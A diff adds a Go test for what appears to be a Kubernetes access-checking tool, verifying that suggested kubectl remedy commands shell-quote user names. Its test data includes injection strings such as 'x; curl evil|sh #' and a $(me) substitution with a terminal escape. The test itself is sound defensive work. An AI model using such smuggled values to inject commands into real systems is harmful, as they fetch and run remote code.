@@ -133,3 +133,23 @@ func TestOneMissingRoleIsOneFinding(t *testing.T) {
 		})
 	}
 }
+
+func TestCommandsQuoteWhatTheClusterSays(t *testing.T) {
+	for user, want := range map[string]string{
+		"system:serviceaccount:web:fedsync": "--user=system:serviceaccount:web:fedsync",
+		"ada@example.com":                   "--user=ada@example.com",
+		"x; curl evil|sh #":                 `--user='x; curl evil|sh #'`,
+		"it's $(me)\x1b[2J":                 `--user='it'\''s $(me)[2J'`,
+		"":                                  "--user=''",
+	} {
+		for _, denied := range []Access{
+			{Verb: "create", Resource: schema.GroupResource{Resource: "namespaces"}, Cluster: true},
+			{Verb: "create", Resource: schema.GroupResource{Resource: "services"}, Namespace: "web"},
+		} {
+			got := AccessFindings("a", "my context", user, []Access{denied})[0].Remedy
+			if !strings.HasSuffix(got, want) || !strings.Contains(got, "--context='my context' ") {
+				t.Errorf("the remedy for %q is %q, want %q at its end", user, got, want)
+			}
+		}
+	}
+}
